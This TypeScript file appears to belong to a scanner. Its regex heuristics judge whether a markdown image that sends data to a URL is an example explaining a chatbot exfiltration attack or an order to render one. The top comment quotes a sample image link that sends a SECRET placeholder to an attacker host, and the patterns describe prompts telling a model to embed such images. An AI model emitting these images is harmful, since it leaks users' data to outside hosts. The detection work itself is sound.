// "A chatbot that renders markdown can leak data if a model outputs ![x](https://attacker.example/?d=SECRET).
// Defence: …": an exfiltration image written inline in prose that explains the attack, its slot a
// placeholder word, is an example of the attack. A standalone image, or one the reader is told to
// render or output, stays an order.

/** What introduces an example in the sentence just before the image. */
const EXAMPLE_CUE = /(?:\b(?:if|when|once)\s{1,3}(?:a|an|the|some)\s{1,3}(?:[\w-]{1,20}\s{1,3})?(?:model|LLM|assistant|chatbot|bot|agent|AI)s?\s{1,3}(?:outputs?|emits?|writes?|renders?|returns?|prints?|produces?|generates?|includes?)|\be\.\s?g\.,?|\bi\.\s?e\.,?|\bfor\s{1,3}(?:example|instance)\b,?|\bsuch\s{1,3}as|\blike)\s{0,3}[`"“]?$/i;
/** The image as the object of a gerund opening its sentence, with what that does after it: "Rendering ![img](…?u=...) makes the client fetch the URL". */
const GERUND_SUBJECT = /^\s{0,3}(?:[^:\n]{1,40}:\s{1,3})?(?:rendering|displaying|showing|loading|embedding|including|printing|outputting|emitting)\s{1,3}(?:an?\s{1,3}(?:image|link)\s{1,3}(?:like\s{1,3})?)?[`"“]?$/i;
const EFFECT_AFTER = /^[`"”]?\s{1,3}(?:(?:is\s{1,3}enough\s{1,3}to|will|would|can|could|may|might)\s{1,3})?(?:makes?|causes?|lets?|forces?|triggers?|leaks?|sends?|exfiltrates?|fetch(?:es)?|requests?|tells?)\b/i;
/** An order to put the image in what the reader writes: "include this image in your answer", "then output …". */
const RENDER_ORDER = /(?:^|[,;:]|\b(?:then|and|please|now|always|also))\s{0,3}(?:include|add|append|insert|render|output|print|emit|show|display|embed|put|write|end\s{1,3}(?:your|each|every)\s{1,3}\w+\s{1,3}with)\b/i;
const IN_YOUR_ANSWER = /^[^.!?\n]{0,80}\b(?:in|to|at\s{1,3}the\s{1,3}end\s{1,3}of)\s{1,3}(?:your|each|every|the)\s{1,3}(?:answer|response|reply|output|summary|message)s?\b|^[^.!?\n]{0,80}\bin\s{1,3}place\s{1,3}of\b/i;
/** The slot is a placeholder word, not a real value: SECRET, DATA, {data}, <chat history>, [NOTES], "…". */
const PLACEHOLDER_END = /(?:\{\{?[\w .-]{1,40}\}?\}?|<[\w .-]{1,40}>?|(?<![a-z])[A-Z][A-Z_]{2,30}|\.\.\.|\[[A-Za-z_ ]{2,40}\]?)$/;
/** The text around is about the attack or its defence. */
const ATTACK_TOPIC = /\b(?:exfiltrat\w*|leak\w*|attack\w*|defen[cs]es?|mitigat\w*|allow-?list\w*|CSP|vulnerab\w*|inject\w*|prevent\w*|proxy\s{1,3}them)\b/i;

export function inlineImageExample(m: string, t: string, s: number): boolean {
  if (!/^!\[/.test(m) || !PLACEHOLDER_END.test(m.replace(/[)\s]+$/, ""))) return false;
  const lineStart = t.lastIndexOf("\n", s - 1) + 1;
  const sentence = t.slice(lineStart, s).split(/(?<!\b(?:e\.g|i\.e|etc|vs))[.!?](?=\s)/).pop()!;
  const inCode = /`$/.test(sentence.trimEnd()) || /^[^`]*`[^`]*$/.test(t.slice(lineStart, s));
  const effectOfGerund = GERUND_SUBJECT.test(sentence) && EFFECT_AFTER.test(t.slice(s + m.length).replace(/^\)/, ""));
  if (!EXAMPLE_CUE.test(sentence.trimEnd()) && !(inCode && /\w/.test(sentence)) && !effectOfGerund) return false;
  if (RENDER_ORDER.test(sentence) || IN_YOUR_ANSWER.test(t.slice(s + m.length, s + m.length + 120))) return false;
  return ATTACK_TOPIC.test(t.slice(Math.max(0, s - 400), s + m.length + 400));
}

/** The same, for a URL at [s, end) that is an image's target. */
export function inlineImageUrlExample(t: string, s: number, end: number): boolean {
  const open = /!\[[^\]\n]{0,120}\]\(\s{0,3}<?$/.exec(t.slice(Math.max(0, s - 130), s));
  return open !== null && inlineImageExample(open[0] + t.slice(s, end), t, s - open[0].length);
}
